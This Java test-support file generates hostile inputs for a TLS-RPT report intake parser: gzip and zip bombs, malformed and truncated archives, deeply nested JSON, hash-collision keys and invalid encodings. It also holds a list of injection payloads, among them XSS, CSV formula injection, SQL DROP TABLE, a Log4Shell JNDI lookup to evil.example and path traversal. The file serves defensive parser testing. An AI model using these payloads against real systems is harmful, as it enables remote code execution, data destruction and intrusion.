package org.sealpost.reports.intake;

import static org.sealpost.reports.intake.HostileInput.SOUND;
import static org.sealpost.reports.intake.HostileInput.file;
import static org.sealpost.reports.intake.HostileInput.gzip;
import static org.sealpost.reports.intake.HostileInput.gzippedBlanks;
import static org.sealpost.reports.intake.HostileInput.joined;
import static org.sealpost.reports.intake.HostileInput.json;
import static org.sealpost.reports.intake.HostileInput.utf8;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.Collections;
import java.util.List;
import java.util.Random;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;

/// Files that do harm: compressed, and JSON.
final class HostileFiles {
    private static final byte[] GZ = gzip(utf8(SOUND));
    private static final String[] PAYLOADS = {
        "<script>alert(1)</script>",
        "\\\"><img src=x onerror=alert(1)>",
        "=HYPERLINK(\\\"https://evil.example\\\",\\\"x\\\")",
        "+1+cmd|' /C calc'!A0",
        "@SUM(1)",
        "\\u0000\\u0007\\u001b[31mred\\u001b]0;title\\u0007",
        "\\u202egnp.exe\\u2066",
        "a\\r\\nX-Injected: yes",
        "'; DROP TABLE report; --",
        "${jndi:ldap://evil.example/x}",
        "../../../../etc/passwd",
        "%s%n%x"
    };
    private static final String[] FIELDS = {"Sound", "tls@sound.example", "expired", "192.0.2.1"};

    private HostileFiles() {}

    static List<HostileInput> all() {
        var all = new ArrayList<HostileInput>();
        compressed(all);
        cut(all);
        shapes(all);
        numbers(all);
        characters(all);
        texts(all);
        return all;
    }

    private static void compressed(List<HostileInput> all) {
        all.add(file("a bomb by ratio", "intake.ratio-too-high", 0, () -> gzippedBlanks(1L << 26)));
        all.add(file("a bomb by octets", "intake.inflated-too-large", 0, HostileFiles::slowBomb));
        all.add(file("a bomb after a report", "intake.ratio-too-high", 0, () -> joined(GZ, gzippedBlanks(1L << 25))));
        all.add(file("a bomb of many members", "intake.ratio-too-high", 0, () -> {
            byte[][] members = new byte[200][];
            Arrays.fill(members, gzippedBlanks(1 << 17));
            return joined(members);
        }));
        all.add(file("a hundred thousand empty members", "intake.gzip-members", 0, () -> {
            byte[][] members = new byte[50_000][];
            Arrays.fill(members, gzip(new byte[0]));
            return joined(members);
        }));
        all.add(file("empty members round a report", "intake.gzip-members", 1, () -> {
            byte[][] members = new byte[1_000][];
            Arrays.fill(members, gzip(new byte[0]));
            members[500] = GZ;
            return joined(members);
        }));
        all.add(file("gzip in gzip", "intake.gzip-nested", 0, () -> gzip(GZ)));
        all.add(file("a bomb in gzip in gzip", "intake.gzip-nested", 0, () -> gzip(gzippedBlanks(1L << 26))));
        all.add(file("a report after its end once more", "intake.gzip-members", 1, () -> joined(GZ, GZ)));
        all.add(file("noise after gzip", "intake.gzip-trailing", 1, () -> joined(GZ, new byte[] {1, 2, 3})));
        all.add(file("zeros after gzip", "intake.gzip-trailing", 1, () -> joined(GZ, new byte[4_096])));
        all.add(file("another checksum", "intake.gzip-checksum", 1, () -> changed(GZ, GZ.length - 8)));
        all.add(file("another length", "intake.gzip-checksum", 1, () -> changed(GZ, GZ.length - 1)));
        all.add(file("a method that is none", "intake.gzip-broken", 0, () -> changed(GZ, 2)));
        all.add(file("flags that are none", "intake.gzip-broken", 0, () -> {
            byte[] changed = GZ.clone();
            changed[3] = (byte) 0xe0;
            return changed;
        }));
        all.add(file("a name without an end", "intake.gzip-truncated", 0, () -> withFlag(8, new byte[0], 100_000)));
        all.add(file("a comment", "", 1, () -> withFlag(16, new byte[] {'h', 'i', 0}, 0)));
        all.add(file("a long name", "", 1, () -> withFlag(8, longName(), 0)));
        all.add(file("an extra field", "", 1, () -> withFlag(4, new byte[] {2, 0, 'x', 'y'}, 0)));
        all.add(file(
                "an extra field longer than all",
                "intake.gzip-truncated",
                0,
                () -> withFlag(4, new byte[] {-1, -1}, 0)));
        all.add(file(
                "a wrong checksum of the header", "intake.gzip-checksum", 1, () -> withFlag(2, new byte[] {1, 2}, 0)));
        all.add(file("a zip", "intake.zip", 0, () -> zip("report.json", utf8(SOUND))));
        all.add(file("a zip bomb", "intake.zip", 0, () -> zip("../../x", new byte[1 << 22])));
        all.add(file("a zip in gzip", "intake.zip", 0, () -> gzip(zip("report.json", utf8(SOUND)))));
        all.add(file("noise in gzip", "tlsrpt.report.not-json", 0, () -> gzip(noise(100_000))));
        all.add(file(
                "noise that says it is gzip",
                "intake.gzip-broken",
                0,
                () -> joined(Arrays.copyOf(GZ, 10), new byte[] {7}, noise(10_000))));
        all.add(file("nothing in gzip", "intake.empty", 0, () -> gzip(new byte[0])));
    }

    private static void cut(List<HostileInput> all) {
        for (int i = 1; i <= 20; i++) {
            int length = 2 + (GZ.length - 3) * i / 20;
            all.add(file(
                    "gzip cut after " + length,
                    "intake.gzip-truncated",
                    length >= GZ.length - 8 ? 1 : 0,
                    () -> Arrays.copyOf(GZ, length)));
        }
        for (int i = 1; i <= 20; i++) {
            int length = 1 + (SOUND.length() - 2) * i / 20;
            all.add(json("JSON cut after " + length, "tlsrpt.report.not-json", 0, () -> SOUND.substring(0, length)));
            all.add(file(
                    "compressed JSON cut after " + length,
                    "tlsrpt.report.not-json",
                    0,
                    () -> gzip(utf8(SOUND.substring(0, length)))));
        }
    }

    private static void shapes(List<HostileInput> all) {
        String limit = "tlsrpt.report.limit-exceeded";
        all.add(json("lists in lists", limit, 0, () -> "[".repeat(1_000_000)));
        all.add(json("objects in objects", limit, 0, () -> "{\"policies\":".repeat(100_000)));
        all.add(json("deep in a field of its own", limit, 0, () -> with("\"x\":" + "[".repeat(500) + "]".repeat(500))));
        all.add(json(
                "as deep as is read",
                "tlsrpt.report.unknown-field",
                1,
                () -> with("\"x\":" + "[".repeat(15) + "]".repeat(15))));
        all.add(json("millions of tiny tokens", limit, 0, () -> with("\"x\":[" + "0,".repeat(2_000_000) + "0]")));
        all.add(json("millions of empty objects", limit, 0, () -> with("\"x\":[" + "{},".repeat(2_000_000) + "{}]")));
        all.add(json(
                "a list of many texts",
                "tlsrpt.report.list-cut",
                1,
                () -> SOUND.replace("[\"mx.example.org\"]", "[\"mx.example.org\"" + ",\"\"".repeat(100_000) + "]")));
        all.add(json(
                "many policies",
                "tlsrpt.report.list-cut",
                1,
                () -> SOUND.replace("\"policies\":[", "\"policies\":[" + "{},".repeat(5_000))));
        all.add(json(
                "many details",
                "tlsrpt.report.list-cut",
                1,
                () -> SOUND.replace("\"failure-details\":[", "\"failure-details\":[" + "{},".repeat(20_000))));
        all.add(json("the same name again", "tlsrpt.report.duplicate-name", 1, () -> with("\"report-id\":\"other\"")));
        all.add(json(
                "the same name 50,000 times",
                "tlsrpt.report.duplicate-name",
                1,
                () -> with(String.join(",", Collections.nCopies(50_000, "\"report-id\":\"other\"")))));
        all.add(json("the policies again", "tlsrpt.report.duplicate-name", 1, () -> with("\"policies\":[]")));
        all.add(json("100,000 names", "tlsrpt.report.unknown-field", 1, () -> {
            var names = new StringBuilder("\"n\":0");
            for (int i = 0; i < 100_000; i++) {
                names.append(",\"n").append(i).append("\":0");
            }
            return with(names.toString());
        }));
        all.add(json("names with one hash", "tlsrpt.report.unknown-field", 1, () -> {
            var names = new StringBuilder("\"n\":0");
            for (int i = 0; i < 1 << 15; i++) {
                names.append(",\"");
                for (int bit = 0; bit < 15; bit++) {
                    names.append((i >> bit & 1) == 0 ? "Aa" : "BB");
                }
                names.append("\":0");
            }
            return with(names.toString());
        }));
        all.add(json("a name of a million letters", limit, 0, () -> with("\"" + "n".repeat(1_000_000) + "\":0")));
        all.add(json("a second report after the first", "tlsrpt.report.trailing-text", 1, () -> SOUND + SOUND));
        all.add(json("a megabyte of blanks before it", "", 1, () -> " ".repeat(1 << 20) + SOUND));
        all.add(json("a megabyte of blanks after it", "", 1, () -> SOUND + "\n".repeat(1 << 20)));
        all.add(json("a comment", "tlsrpt.report.not-json", 0, () -> "{/* x */" + SOUND.substring(1)));
        all.add(json("a list", "tlsrpt.report.not-a-report", 0, () -> "[" + SOUND + "]"));
        all.add(json("an empty object", "tlsrpt.report.not-a-report", 0, () -> "{}"));
        all.add(json("policies that are none", "tlsrpt.report.not-a-report", 0, () -> "{\"policies\":\"all\"}"));
        all.add(json(
                "a list in a list of texts",
                "tlsrpt.report.wrong-type",
                1,
                () -> SOUND.replace("[\"mx.example.org\"]", "[[\"mx.example.org\"]]")));
        all.add(json(
                "lists in a text in a text",
                "tlsrpt.report.text-cut",
                1,
                () -> SOUND.replace(
                        "[\"version: STSv1\",\"mode: testing\",\"mx: mx.example.org\",\"max_age: 86400\"]",
                        "[\"[" + "\\\"x\\\",".repeat(5_000) + "\\\"x\\\"]\"]")));
    }

    private static void numbers(List<HostileInput> all) {
        for (String number : new String[] {
            "9".repeat(4_000), "-" + "9".repeat(4_000), "1e" + "9".repeat(4_000), "0." + "0".repeat(4_000) + "1"
        }) {
            all.add(json(
                    "4,000 digits: " + number.substring(0, 2), "tlsrpt.report.limit-exceeded", 0, () -> count(number)));
        }
        for (String number : new String[] {
            "9007199254740993", "18446744073709551616", "-1", "-0", "1.0", "1e400", "9".repeat(99), "true", "{}", "[7]"
        }) {
            all.add(json("the count " + number, "tlsrpt.report.count-malformed", 1, () -> count(number)));
        }
        for (String number : new String[] {"NaN", "Infinity", "0x7", "07", "+7", ".7", "7."}) {
            all.add(json("the count " + number, "tlsrpt.report.not-json", 0, () -> count(number)));
        }
        all.add(json(
                "4,000 digits in a text",
                "tlsrpt.report.count-malformed",
                1,
                () -> count("\"" + "7".repeat(4_000) + "\"")));
        for (String time : new String[] {
            "9999-99-99T99:99:99Z", "2026-11-20T00:00:00+99:99", "0".repeat(9_000), "-999999999-01-01T00:00:00Z", "now"
        }) {
            all.add(json(
                    "the time " + time.substring(0, 3),
                    "tlsrpt.report.time-malformed",
                    1,
                    () -> SOUND.replace("2026-11-20T00:00:00Z", time)));
        }
        all.add(json(
                "ten thousand years",
                "intake.in-future",
                1,
                () -> SOUND.replace("2026-11-20T23:59:59Z", "9999-12-31T23:59:59Z")
                        .replace("2026-11-20T00:00:00Z", "0000-01-01T00:00:00Z")));
        all.add(json(
                "an end before the start",
                "intake.period-unclear",
                1,
                () -> SOUND.replace("2026-11-20T23:59:59Z", "2026-11-19T23:59:59Z")));
    }

    private static void characters(List<HostileInput> all) {
        String bad = "tlsrpt.report.bad-character";
        byte[][] sequences = {
            {(byte) 0xff},
            {(byte) 0xc0, (byte) 0xaf},
            {(byte) 0xed, (byte) 0xa0, (byte) 0x80},
            {(byte) 0xe2, (byte) 0x82},
            {(byte) 0xf8, (byte) 0x88, (byte) 0x80, (byte) 0x80, (byte) 0x80},
            {(byte) 0x80}
        };
        for (byte[] sequence : sequences) {
            all.add(file("no UTF-8: " + Arrays.toString(sequence), bad, 1, () -> {
                int at = SOUND.indexOf("Sound");
                return joined(utf8(SOUND.substring(0, at)), sequence, utf8(SOUND.substring(at)));
            }));
        }
        for (String half : new String[] {"\\ud800", "\\udfff", "\\udfff\\ud800", "\\ud83dx\\ude00"}) {
            all.add(json("half a pair: " + half, bad, 1, () -> SOUND.replace("Sound", half)));
        }
        all.add(json("a mark", "tlsrpt.report.byte-order-mark", 1, () -> "\ufeff" + SOUND));
        all.add(json("a bare control character", "tlsrpt.report.not-json", 0, () -> SOUND.replace("Sound", "S\u0007")));
        all.add(file(
                "UTF-16 with a mark",
                "tlsrpt.report.not-json",
                0,
                () -> gzip(SOUND.getBytes(StandardCharsets.UTF_16))));
        all.add(file(
                "UTF-16 without a mark", "tlsrpt.report.not-json", 0, () -> SOUND.getBytes(StandardCharsets.UTF_16LE)));
        all.add(json(
                "a megabyte in one text",
                "tlsrpt.report.text-cut",
                1,
                () -> SOUND.replace("\"Sound\"", "\"" + "é".repeat(1 << 20) + "\"")));
    }

    private static void texts(List<HostileInput> all) {
        for (String payload : PAYLOADS) {
            for (String field : FIELDS) {
                String code = switch (field) {
                    case "tls@sound.example" -> "tlsrpt.report.contact-malformed";
                    case "192.0.2.1" -> "tlsrpt.report.address-malformed";
                    default -> "";
                };
                all.add(json(payload + " for " + field, code, 1, () -> SOUND.replace(field, payload)));
            }
        }
    }

    private static String with(String members) {
        return "{" + SOUND.substring(1, SOUND.length() - 1) + "," + members + "}";
    }

    private static String count(String number) {
        return SOUND.replace("-session-count\":7", "-session-count\":" + number);
    }

    private static byte[] slowBomb() {
        byte[] text = new byte[11 << 20];
        var random = new Random(8460);
        for (int i = 0; i < text.length; i++) {
            text[i] = (byte) (i % 8 == 0 ? 'a' + random.nextInt(26) : ' ');
        }
        return gzip(text);
    }

    private static byte[] noise(int length) {
        var noise = new byte[length];
        new Random(1).nextBytes(noise);
        noise[0] = 'x';
        return noise;
    }

    private static byte[] longName() {
        var name = new byte[100_001];
        Arrays.fill(name, (byte) 'n');
        name[100_000] = 0;
        return name;
    }

    private static byte[] changed(byte[] octets, int at) {
        byte[] changed = octets.clone();
        changed[at] ^= 0x15;
        return changed;
    }

    /// With an optional field of the header; what follows it is left out when `instead` octets stand in its place.
    private static byte[] withFlag(int flag, byte[] field, int instead) {
        byte[] head = Arrays.copyOf(GZ, 10);
        head[3] = (byte) flag;
        byte[] rest = Arrays.copyOfRange(GZ, 10, GZ.length);
        if (instead > 0) {
            rest = new byte[instead];
            Arrays.fill(rest, (byte) 'n');
        }
        return joined(head, field, rest);
    }

    private static byte[] zip(String name, byte[] content) {
        var out = new ByteArrayOutputStream();
        try (var zip = new ZipOutputStream(out)) {
            zip.putNextEntry(new ZipEntry(name));
            zip.write(content);
        } catch (IOException never) {
            throw new UncheckedIOException(never);
        }
        return out.toByteArray();
    }
}
